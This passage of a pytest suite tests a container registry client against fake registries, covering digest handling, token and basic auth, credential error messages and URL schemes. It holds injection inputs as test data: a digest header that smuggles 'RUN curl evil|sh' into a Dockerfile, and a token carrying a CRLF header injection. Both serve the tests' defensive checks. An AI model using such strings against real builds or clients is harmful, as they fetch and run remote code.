"""RegistryClient against `responses` fakes: every protocol, auth, retry, mirror and platform branch."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import parse_qs, urljoin, urlsplit

import pytest
import requests
import responses

from pin_images import manifest as mf
from pin_images.credentials import Credential
from pin_images.errors import AuthError, BadResponseError, NotFoundError, RegistryConnectionError, RegistryError
from pin_images.manifest import Platform
from pin_images.reference import parse
from pin_images.registry import RegistryClient, is_loopback

HUB = "https://registry-1.docker.io"
HUB_REALM = "https://auth.docker.io/token"
REG = "https://registry.example.com"


# ------------------------------------------------------------------------------------------------ fakes


class FakeKeychain:
    def __init__(self, creds: dict[str, Credential] | None = None) -> None:
        self.creds = creds or {}
        self.asked: list[str] = []

    def get(self, host: str) -> Credential | None:
        self.asked.append(host)
        return self.creds.get(host)

    def tried(self, host: str) -> list[str]:
        self.asked.append(host)  # the real Keychain.tried() consults the sources too
        cred = self.creds.get(host)
        return [cred.source] if cred else ["/home/u/.docker/config.json (no entry)"]


class FakeTime:
    def __init__(self) -> None:
        self.now = 1000.0
        self.sleeps: list[float] = []

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds

    def clock(self) -> float:
        return self.now


class RecordingSession(requests.Session):
    """Records the keyword arguments of every request (verify, allow_redirects, ...)."""

    def __init__(self) -> None:
        super().__init__()
        self.calls: list[dict[str, Any]] = []

    def request(self, method: str, url: str, *args: Any, **kwargs: Any) -> requests.Response:  # type: ignore[override]
        self.calls.append({"method": method, "url": url, **kwargs})
        return super().request(method, url, *args, **kwargs)


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def config_blob(os_name: str = "linux", arch: str = "amd64", variant: str | None = None) -> bytes:
    doc: dict[str, Any] = {"os": os_name, "architecture": arch, "rootfs": {"type": "layers", "diff_ids": []}}
    if variant:
        doc["variant"] = variant
    return json.dumps(doc).encode()


def image_manifest(config: bytes, media_type: str = mf.OCI_MANIFEST, salt: str = "") -> bytes:
    config_type = "application/vnd.oci.image.config.v1+json"
    doc = {"schemaVersion": 2, "mediaType": media_type, "config": {"mediaType": config_type,
           "digest": sha(config), "size": len(config)}, "layers": [], "annotations": {"salt": salt}}
    return json.dumps(doc).encode()


def index_manifest(children: list[tuple[bytes, str, Platform | None]], media_type: str = mf.OCI_INDEX) -> bytes:
    entries = []
    for body, child_type, platform in children:
        entry: dict[str, Any] = {"mediaType": child_type, "digest": sha(body), "size": len(body)}
        if platform is not None:
            entry["platform"] = {"os": platform.os, "architecture": platform.architecture}
            if platform.variant:
                entry["platform"]["variant"] = platform.variant
        entries.append(entry)
    return json.dumps({"schemaVersion": 2, "mediaType": media_type, "manifests": entries}).encode()


class FakeRegistry:
    """A distribution registry behind `responses` callbacks: manifests, blobs, and optional auth."""

    def __init__(self, rsps: responses.RequestsMock, base: str, *, auth: str | None = None,
                 realm: str = HUB_REALM, service: str = "registry.docker.io",
                 basic: tuple[str, str] | None = None, head_digest: bool = True,
                 token_scopes_limit: int | None = None, expires_in: int | None = 300) -> None:
        self.base = base
        self.auth = auth
        self.realm = realm
        self.service = service
        self.basic = basic
        self.head_digest = head_digest
        self.token_scopes_limit = token_scopes_limit
        self.expires_in = expires_in
        self.manifests: dict[tuple[str, str], tuple[bytes, str]] = {}
        self.blobs: dict[str, bytes] = {}
        self.tokens: dict[str, set[str]] = {}
        self.requests: list[requests.PreparedRequest] = []
        self.token_requests: list[requests.PreparedRequest] = []
        self._lock = threading.Lock()
        pattern = re.compile(re.escape(base) + r"/v2/.*")
        for method in ("GET", "HEAD"):
            rsps.add_callback(method, pattern, callback=self._serve)
        if auth == "bearer":
            for method in ("GET", "POST"):
                rsps.add_callback(method, realm, callback=self._token)

    def push(self, repo: str, body: bytes, media_type: str, *tags: str) -> str:
        digest = sha(body)
        self.manifests[(repo, digest)] = (body, media_type)
        for tag in tags:
            self.manifests[(repo, tag)] = (body, media_type)
        return digest

    def push_blob(self, body: bytes) -> str:
        self.blobs[sha(body)] = body
        return sha(body)

    def push_image(self, repo: str, platform: Platform, *tags: str, salt: str = "") -> tuple[bytes, str]:
        config = config_blob(platform.os, platform.architecture, platform.variant)
        self.push_blob(config)
        body = image_manifest(config, salt=salt)
        self.push(repo, body, mf.OCI_MANIFEST, *tags)
        return body, sha(body)

    def _authorized(self, request: requests.PreparedRequest, repo: str) -> bool:
        header = request.headers.get("Authorization", "")
        if self.auth == "bearer":
            return header.startswith("Bearer ") and repo in self.tokens.get(header[7:], set())
        if self.auth == "basic":
            assert self.basic is not None
            expected = base64.b64encode(f"{self.basic[0]}:{self.basic[1]}".encode()).decode()
            return header == f"Basic {expected}"
        return True

    def _challenge(self, repo: str) -> str:
        if self.auth == "basic":
            return 'Basic realm="Registry Realm"'
        return f'Bearer realm="{self.realm}",service="{self.service}",scope="repository:{repo}:pull"'

    def _serve(self, request: requests.PreparedRequest) -> tuple[int, dict[str, str], bytes]:
        status, headers, body = self._answer(request)
        return status, headers, b"" if request.method == "HEAD" else body

    def _answer(self, request: requests.PreparedRequest) -> tuple[int, dict[str, str], bytes]:
        with self._lock:
            self.requests.append(request)
        path = urlsplit(request.url).path[len("/v2/"):]
        if not path:
            if self.auth:
                return 401, {"WWW-Authenticate": self._challenge("").split(",scope=")[0]}, b""
            return 200, {}, b"{}"
        match = re.fullmatch(r"(.+)/(manifests|blobs)/(.+)", path)
        assert match, path
        repo, kind, ref = match.groups()
        if not self._authorized(request, repo):
            return 401, {"WWW-Authenticate": self._challenge(repo)}, b""
        if kind == "blobs":
            if ref not in self.blobs:
                return 404, {}, b'{"errors":[{"code":"BLOB_UNKNOWN"}]}'
            return 200, {"Content-Type": "application/octet-stream"}, self.blobs[ref]
        if (repo, ref) not in self.manifests:
            known = any(r == repo for r, _ in self.manifests)
            code = "MANIFEST_UNKNOWN" if known else "NAME_UNKNOWN"
            return 404, {"Content-Type": "application/json"}, json.dumps({"errors": [{"code": code}]}).encode()
        body, media_type = self.manifests[(repo, ref)]
        headers = {"Content-Type": media_type}
        if self.head_digest or request.method == "GET":
            headers["Docker-Content-Digest"] = sha(body)
        return 200, headers, body

    def _token(self, request: requests.PreparedRequest) -> tuple[int, dict[str, str], bytes]:
        with self._lock:
            self.token_requests.append(request)
        if request.method == "POST":
            form = parse_qs(request.body if isinstance(request.body, str) else (request.body or b"").decode())
            scopes = form.get("scope", [""])[0].split(" ")
        else:
            scopes = parse_qs(urlsplit(request.url).query).get("scope", [])
        if self.basic and request.method == "GET":
            expected = base64.b64encode(f"{self.basic[0]}:{self.basic[1]}".encode()).decode()
            if request.headers.get("Authorization") != f"Basic {expected}":
                return 401, {}, b'{"details":"incorrect username or password"}'
        granted = scopes[: self.token_scopes_limit] if self.token_scopes_limit else scopes
        with self._lock:
            token = f"tok{len(self.tokens) + 1}"
            self.tokens[token] = {s.split(":")[1] for s in granted if s}
        doc: dict[str, Any] = {"token": token}
        if self.expires_in is not None:
            doc["expires_in"] = self.expires_in
        return 200, {"Content-Type": "application/json"}, json.dumps(doc).encode()


@pytest.fixture
def rsps() -> Iterator[responses.RequestsMock]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield mock


@pytest.fixture
def clock() -> FakeTime:
    return FakeTime()


def make_client(clock: FakeTime, keychain: Any = None, **kwargs: Any) -> RegistryClient:
    kwargs.setdefault("session", RecordingSession())
    return RegistryClient(keychain or FakeKeychain(), sleep=clock.sleep, clock=clock.clock, **kwargs)


AMD64 = Platform("linux", "amd64")
ARM64 = Platform("linux", "arm64", "v8")
ARMV7 = Platform("linux", "arm", "v7")
ARMV6 = Platform("linux", "arm", "v6")


def push_multiarch(registry: FakeRegistry, repo: str, tag: str, salt: str = "") -> tuple[str, dict[Platform, str]]:
    children = []
    digests = {}
    for platform in (AMD64, ARM64, ARMV7, ARMV6):
        body, digest = registry.push_image(repo, platform, salt=salt)
        children.append((body, mf.OCI_MANIFEST, platform))
        digests[platform] = digest
    # An attestation entry, as buildx adds: it must never be picked.
    attestation = image_manifest(config_blob("unknown", "unknown"), salt="att" + salt)
    registry.push(repo, attestation, mf.OCI_MANIFEST)
    children.append((attestation, mf.OCI_MANIFEST, Platform("unknown", "unknown")))
    index_digest = registry.push(repo, index_manifest(children), mf.OCI_INDEX, tag)
    return index_digest, digests


# ------------------------------------------------------------------------------------------------ HEAD / GET


def test_anonymous_head(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG)
    index_digest, _ = push_multiarch(registry, "team/app", "1.0")
    client = make_client(clock)
    result = client.resolve(parse("registry.example.com/team/app:1.0"))
    assert result.digest == index_digest
    assert result.media_type == mf.OCI_INDEX
    assert result.is_index
    (request,) = registry.requests
    assert request.method == "HEAD"
    assert request.headers["Accept"] == mf.ACCEPT
    assert "Authorization" not in request.headers
    assert client.stats.as_dict()["manifest_head"] == 1
    assert client.stats.manifest_get == 0
    session = client._session
    assert isinstance(session, RecordingSession)
    assert all(call["allow_redirects"] is False for call in session.calls)


def test_head_without_digest_falls_back_to_get(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, head_digest=False)
    index_digest, _ = push_multiarch(registry, "team/app", "1.0")
    client = make_client(clock)
    result = client.resolve(parse("registry.example.com/team/app:1.0"))
    assert result.digest == index_digest
    assert [r.method for r in registry.requests] == ["HEAD", "GET"]
    assert len(result.children) == 5  # the GET body is an index, so its entries come for free


@pytest.mark.parametrize("status", [405, 400, 501])
def test_head_rejected_falls_back_to_get(rsps: responses.RequestsMock, clock: FakeTime, status: int) -> None:
    body = image_manifest(config_blob(), mf.DOCKER_MANIFEST)
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=status)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.DOCKER_MANIFEST, "Docker-Content-Digest": sha(body)})
    client = make_client(clock)
    result = client.resolve(parse("registry.example.com/app:v1"))
    assert (result.digest, result.media_type) == (sha(body), mf.DOCKER_MANIFEST)
    assert clock.sleeps == []


def test_get_without_header_uses_body_hash(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST + "; charset=utf-8"})
    assert make_client(clock).resolve(parse("registry.example.com/app:v1")).digest == sha(body)


def test_body_header_mismatch(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST, "Docker-Content-Digest": sha(b"x")})
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: .*does not match"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


@pytest.mark.parametrize(
    "header",
    [
        "sha256:abc\nRUN curl evil|sh",  # header injection into the Dockerfile
        "sha256:" + "A" * 64,  # uppercase hex is not what we write
        "sha512:" + "a" * 128,
        "sha256:" + "a" * 63,
        "sha256:" + "a" * 64 + " ",
    ],
)
def test_invalid_header_digest(rsps: responses.RequestsMock, clock: FakeTime, header: str) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", headers={"Content-Type": mf.OCI_INDEX,
                                                         "Docker-Content-Digest": header})
    with pytest.raises(BadResponseError) as info:
        make_client(clock).resolve(parse("registry.example.com/app:v1"))
    assert "RUN" not in str(info.value)
    assert "\n" not in str(info.value)


def test_head_digest_for_other_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    asked = "sha256:" + "1" * 64
    rsps.add("HEAD", f"{REG}/v2/app/manifests/{asked}", headers={"Content-Type": mf.OCI_INDEX,
                                                              "Docker-Content-Digest": "sha256:" + "2" * 64})
    with pytest.raises(BadResponseError, match="asked for"):
        make_client(clock).resolve(parse(f"registry.example.com/app@{asked}"))


def test_schema1_on_head(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/old", headers={"Content-Type": mf.DOCKER_SCHEMA1_SIGNED,
                                                          "Docker-Content-Digest": "sha256:" + "a" * 64})
    with pytest.raises(BadResponseError, match=r"unsupported legacy \(schema 1\) manifest"):
        make_client(clock).resolve(parse("registry.example.com/app:old"))


def test_schema1_body_behind_application_json(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/old"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b'{"schemaVersion": 1, "name": "app"}', headers={"Content-Type": "application/json"})
    with pytest.raises(BadResponseError, match=r"unsupported legacy \(schema 1\) manifest"):
        make_client(clock).resolve(parse("registry.example.com/app:old"))


def test_wrong_content_type(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, headers={"Content-Type": "text/html"})
    rsps.add("GET", url, body=b"<html>login</html>", headers={"Content-Type": "text/html"})
    with pytest.raises(BadResponseError, match="unexpected Content-Type 'text/html'"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_media_type_disagrees_with_content_type(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob(), mf.DOCKER_MANIFEST)
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST})
    with pytest.raises(BadResponseError, match="does not match Content-Type"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_junk_json(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b"{not json", headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: manifest is not"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_size_cap_streaming(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    # No Content-Length: the cap must hold while streaming.
    rsps.add("GET", url, body=b"{" + b" " * (4 * 1024 * 1024), headers={"Content-Type": mf.OCI_INDEX})
    with pytest.raises(BadResponseError, match="manifest larger than 4 MiB"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_size_cap_content_length(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=b"{}", headers={"Content-Type": mf.OCI_INDEX, "Content-Length": str(5 * 1024 * 1024)},
             auto_calculate_content_length=False)
    with pytest.raises(BadResponseError, match="manifest larger than 4 MiB"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_manifest_just_under_cap_is_fine(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    body = image_manifest(config_blob())
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, body=body, headers={"Content-Type": mf.OCI_MANIFEST})
    client = make_client(clock, max_manifest_bytes=len(body))
    assert client.resolve(parse("registry.example.com/app:v1")).digest == sha(body)


# ------------------------------------------------------------------------------------------------ errors


def test_not_found_tag(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/python", AMD64, "3.12")
    with pytest.raises(NotFoundError) as info:
        make_client(clock).resolve(parse("python:3.99"))
    assert str(info.value) == "tag 3.99 not found in docker.io/library/python"
    assert info.value.host == "docker.io"


def test_not_found_repository_on_get(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, REG)
    with pytest.raises(NotFoundError, match=r"^repository registry.example.com/nope not found$"):
        make_client(clock).resolve(parse("registry.example.com/nope:1"), AMD64)


def test_not_found_digest(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, REG)
    digest = "sha256:" + "a" * 64
    with pytest.raises(NotFoundError, match=f"digest {digest} not found in registry.example.com/app"):
        make_client(clock).resolve(parse(f"registry.example.com/app@{digest}"))


def test_unexpected_status(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    url = f"{REG}/v2/app/manifests/v1"
    rsps.add("HEAD", url, status=405)
    rsps.add("GET", url, status=418)
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: HTTP 418"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


# ------------------------------------------------------------------------------------------------ bearer


def test_bearer_flow_and_token_cache(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    python, _ = push_multiarch(registry, "library/python", "3.12")
    alpine, _ = push_multiarch(registry, "library/alpine", "3.20")
    client = make_client(clock)

    assert client.resolve(parse("python:3.12")).digest == python
    assert (client.stats.manifest_head, client.stats.token, client.stats.unauthorized) == (2, 1, 1)
    token_request = registry.token_requests[0]
    query = parse_qs(urlsplit(token_request.url).query)
    assert query == {"service": ["registry.docker.io"], "scope": ["repository:library/python:pull"]}
    assert "Authorization" not in token_request.headers  # anonymous token

    # A second repository on the same registry: the challenge is known, so no 401 round trip.
    assert client.resolve(parse("alpine:3.20")).digest == alpine
    assert (client.stats.manifest_head, client.stats.token, client.stats.unauthorized) == (3, 2, 1)

    # The same repository again: the token is reused.
    client.resolve(parse("python:3.12"))
    assert (client.stats.manifest_head, client.stats.token, client.stats.unauthorized) == (4, 2, 1)

    # After expiry (300 s minus slack) a fresh token is fetched up front, still without a 401.
    clock.now += 291
    client.resolve(parse("python:3.12"))
    assert (client.stats.manifest_head, client.stats.token, client.stats.unauthorized) == (5, 3, 1)


def test_token_default_lifetime_without_expires_in(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, "https://ghcr.io", auth="bearer", realm="https://ghcr.io/token",
                            service="ghcr.io", expires_in=None)
    registry.push_image("owner/img", AMD64, "v1")
    client = make_client(clock)
    ref = parse("ghcr.io/owner/img:v1")
    client.resolve(ref)
    clock.now += 49
    client.resolve(ref)
    assert client.stats.token == 1
    clock.now += 2  # 60 s default minus 10 s slack
    client.resolve(ref)
    assert client.stats.token == 2


def test_revoked_cached_token_is_refetched(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/python", AMD64, "3.12")
    client = make_client(clock)
    client.resolve(parse("python:3.12"))
    registry.tokens.clear()  # the registry forgot every token it issued
    client.resolve(parse("python:3.12"))
    assert client.stats.token == 2
    assert client.stats.unauthorized == 2


def test_access_token_field(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", status=401,
             headers={"WWW-Authenticate": f'Bearer realm="{REG}/oauth2/token",service="reg"'})
    rsps.add("GET", f"{REG}/oauth2/token", json={"access_token": "abc.def"})
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", headers={"Content-Type": mf.OCI_INDEX,
                                                         "Docker-Content-Digest": "sha256:" + "a" * 64},
             match=[responses.matchers.header_matcher({"Authorization": "Bearer abc.def"})])
    assert make_client(clock).resolve(parse("registry.example.com/app:v1")).digest == "sha256:" + "a" * 64


@pytest.mark.parametrize("body", [b"<html>", b"[]", b'{"token": ""}', b'{"token": "a\\r\\nX-Evil: 1"}', b"{}"])
def test_bad_token_response(rsps: responses.RequestsMock, clock: FakeTime, body: bytes) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", status=401,
             headers={"WWW-Authenticate": f'Bearer realm="{REG}/token"'})
    rsps.add("GET", f"{REG}/token", body=body)
    with pytest.raises(BadResponseError, match=r"bad registry response from registry.example.com: token response"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_401_without_usable_challenge(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/v1", status=401, headers={"WWW-Authenticate": "Negotiate"})
    with pytest.raises(AuthError, match="no usable WWW-Authenticate challenge"):
        make_client(clock).resolve(parse("registry.example.com/app:v1"))


def test_concurrent_first_contact_single_flight(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    digest = registry.push_image("library/python", AMD64, "3.12")[1]
    client = make_client(clock)
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(lambda _: client.resolve(parse("python:3.12")).digest, range(16)))
    assert set(results) == {digest}
    # One thread met the 401 while the others waited; one token fetch served them all.
    assert client.stats.unauthorized == 1
    assert client.stats.token == 1
    assert client.stats.manifest_head == 17


# ------------------------------------------------------------------------------------------------ prefetch


def test_prefetch_one_token_for_many_repositories(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    names = ["python", "alpine", "debian"]
    for name in names:
        registry.push_image(f"library/{name}", AMD64, "1")
    client = make_client(clock)
    refs = [parse(f"{name}:1") for name in [*names, "python"]]
    client.prefetch_tokens(refs)
    assert (client.stats.ping, client.stats.unauthorized, client.stats.token) == (1, 1, 1)
    query = parse_qs(urlsplit(registry.token_requests[0].url).query)
    assert query["scope"] == [f"repository:library/{n}:pull" for n in names]
    for ref in refs:
        client.resolve(ref)
    # N manifest requests, one token, one 401 for the whole registry.
    stats = client.stats.as_dict()
    assert (stats["manifest_head"], stats["manifest_get"], stats["token"], stats["unauthorized"]) == (4, 0, 1, 1)


def test_learned_challenge_is_not_pinged_again(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    registry.push_image("library/python", AMD64, "1")
    client = make_client(clock)
    client.learn_challenges([parse("python:1"), parse("library/python:2")])
    assert (client.stats.ping, client.stats.unauthorized, client.stats.token) == (1, 1, 0)
    client.prefetch_tokens([parse("python:1")])
    client.resolve(parse("python:1"))
    stats = client.stats.as_dict()
    assert (stats["ping"], stats["unauthorized"], stats["token"], stats["manifest_head"]) == (1, 1, 1, 1)


def test_prefetch_chunks_scopes(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer")
    client = make_client(clock)
    client.prefetch_tokens(parse(f"team/image-number-{i}:1") for i in range(100))
    assert 2 <= client.stats.token <= 3
    for request in registry.token_requests:
        assert len(request.url or "") <= 4000
    assert sum(len(parse_qs(urlsplit(r.url).query)["scope"]) for r in registry.token_requests) == 100


def test_prefetch_granted_fewer_scopes_falls_back(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer", token_scopes_limit=1)
    python = registry.push_image("library/python", AMD64, "1")[1]
    alpine = registry.push_image("library/alpine", AMD64, "1")[1]
    client = make_client(clock)
    client.prefetch_tokens([parse("python:1"), parse("alpine:1")])
    assert client.resolve(parse("python:1")).digest == python
    assert client.resolve(parse("alpine:1")).digest == alpine  # 401 with the shared token, then its own token
    assert client.stats.token == 2


def test_prefetch_is_harmless_when_it_fails(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("GET", f"{REG}/v2/", body=requests.ConnectionError("Connection refused"))
    client = make_client(clock)
    client.prefetch_tokens([parse("registry.example.com/app:1")])  # no exception


def test_prefetch_open_registry(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG)
    registry.push_image("app", AMD64, "1")
    client = make_client(clock)
    client.prefetch_tokens([parse("registry.example.com/app:1")])
    client.resolve(parse("registry.example.com/app:1"))
    assert (client.stats.ping, client.stats.token, client.stats.manifest_head) == (1, 0, 1)


# ------------------------------------------------------------------------------------------------ credentials


def test_basic_auth(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, auth="basic", basic=("alice", "s3cret"))
    registry.push_image("team/app", AMD64, "1")
    registry.push_image("team/other", AMD64, "1")
    keychain = FakeKeychain({"registry.example.com": Credential("alice", "s3cret", "docker config auths")})
    client = make_client(clock, keychain)
    client.resolve(parse("registry.example.com/team/app:1"))
    client.resolve(parse("registry.example.com/team/other:1"))
    assert client.stats.unauthorized == 1  # the second repository sends Basic straight away
    assert client.stats.token == 0
    assert registry.requests[-1].headers["Authorization"].startswith("Basic ")


def test_bearer_with_basic_credentials_to_token_server(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, HUB, auth="bearer", basic=("bob", "pw"))
    registry.push_image("bob/private", AMD64, "1")
    keychain = FakeKeychain({"docker.io": Credential("bob", "pw", "credential helper desktop")})
    make_client(clock, keychain).resolve(parse("bob/private:1"))
    expected = "Basic " + base64.b64encode(b"bob:pw").decode()
    assert registry.token_requests[0].headers["Authorization"] == expected
    assert keychain.asked == ["docker.io"]


def test_identity_token_uses_refresh_grant(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, auth="bearer", realm=f"{REG}/oauth2/token", service="registry.example.com")
    registry.push_image("app", AMD64, "1")
    keychain = FakeKeychain({"registry.example.com": Credential("<token>", "refresh-xyz", "auths identitytoken")})
    make_client(clock, keychain).resolve(parse("registry.example.com/app:1"))
    (token_request,) = registry.token_requests
    assert token_request.method == "POST"
    form = parse_qs(token_request.body if isinstance(token_request.body, str) else token_request.body.decode())
    assert form == {"grant_type": ["refresh_token"], "refresh_token": ["refresh-xyz"], "client_id": ["pin-images"],
                    "scope": ["repository:app:pull"], "service": ["registry.example.com"]}
    assert "Authorization" not in token_request.headers


def test_401_after_auth_names_sources_not_secrets(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, auth="basic", basic=("alice", "right"))
    registry.push_image("app", AMD64, "1")
    keychain = FakeKeychain({"registry.example.com": Credential("alice", "wrong-pw", "credential helper pass")})
    with pytest.raises(AuthError) as info:
        make_client(clock, keychain).resolve(parse("registry.example.com/app:1"))
    message = str(info.value)
    assert "registry.example.com" in message
    assert "credential helper pass" in message
    assert "docker login registry.example.com" in message
    assert "wrong-pw" not in message
    assert base64.b64encode(b"alice:wrong-pw").decode() not in message
    assert "\n" not in message


def test_token_server_refuses_credentials(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, HUB, auth="bearer", basic=("bob", "pw"))
    keychain = FakeKeychain({"docker.io": Credential("bob", "bad", "docker config auths")})
    with pytest.raises(AuthError) as info:
        make_client(clock, keychain).resolve(parse("bob/private:1"))
    assert "docker config auths" in str(info.value)
    assert "`docker login`" in str(info.value)
    assert "bad" not in str(info.value).replace("bad registry", "")


def test_anonymous_denied(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    FakeRegistry(rsps, HUB, auth="bearer", token_scopes_limit=None)
    rsps.replace("GET", HUB_REALM, json={"token": "anon"})  # a token without the private repository's scope
    with pytest.raises(AuthError) as info:
        make_client(clock).resolve(parse("bob/private:1"))
    assert str(info.value) == (
        "docker.io requires authentication (HTTP 401) for bob/private; no credentials found (looked in: "
        "/home/u/.docker/config.json (no entry)); log in with `docker login`, and check that the repository "
        "exists and you may pull it"
    )


def test_403(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    rsps.add("HEAD", f"{REG}/v2/app/manifests/1", status=403)
    with pytest.raises(AuthError, match=r"registry.example.com denied access \(HTTP 403\) for app"):
        make_client(clock).resolve(parse("registry.example.com/app:1"))


def test_credential_source_failure_is_a_registry_error(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    from pin_images.errors import CredentialError

    class BrokenKeychain(FakeKeychain):
        def get(self, host: str) -> Credential | None:
            raise CredentialError("docker-credential-desktop failed: exit 1")

    FakeRegistry(rsps, REG, auth="basic", basic=("a", "b"))
    with pytest.raises(AuthError, match="docker-credential-desktop failed"):
        make_client(clock, BrokenKeychain()).resolve(parse("registry.example.com/app:1"))


def test_realm_on_other_host_over_http_gets_no_credentials(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, REG, auth="bearer", realm="http://auth.example.net/token", service="s")
    registry.push_image("app", AMD64, "1")
    keychain = FakeKeychain({"registry.example.com": Credential("alice", "pw", "docker config")})
    make_client(clock, keychain).resolve(parse("registry.example.com/app:1"))
    assert "Authorization" not in registry.token_requests[0].headers


def test_loopback_http_realm_gets_credentials(rsps: responses.RequestsMock, clock: FakeTime) -> None:
    registry = FakeRegistry(rsps, "http://127.0.0.1:5000", auth="bearer", realm="http://127.0.0.1:5001/token",
                            service="s", basic=("u", "p"))
    registry.push_image("app", AMD64, "1")
    keychain = FakeKeychain({"127.0.0.1:5000": Credential("u", "p", "docker config")})
    make_client(clock, keychain).resolve(parse("127.0.0.1:5000/app:1"))
    assert registry.token_requests[0].headers["Authorization"].startswith("Basic ")


# ------------------------------------------------------------------------------------------------ schemes, TLS


@pytest.mark.parametrize(
    ("registry", "base"),
    [
        ("localhost:5000", "http://localhost:5000"),
        ("registry.localhost", "http://registry.localhost"),
        ("127.0.0.1:5000", "http://127.0.0.1:5000"),
        ("127.1.2.3:5000", "http://127.1.2.3:5000"),
        ("[::1]:5000", "http://[::1]:5000"),
        ("registry.example.com:5000", "https://registry.example.com:5000"),
        ("10.0.0.1:5000", "https://10.0.0.1:5000"),  # private but not loopback: TLS unless marked insecure
        ("docker.io", "https://registry-1.docker.io"),
    ],
)
def test_scheme(rsps: responses.RequestsMock, clock: FakeTime, registry: str, base: str) -> None:
    repo = "library/app" if registry == "docker.io" else "app"
    rsps.add("HEAD", f"{base}/v2/{repo}/manifests/1", headers={"Content-Type": mf.OCI_INDEX,
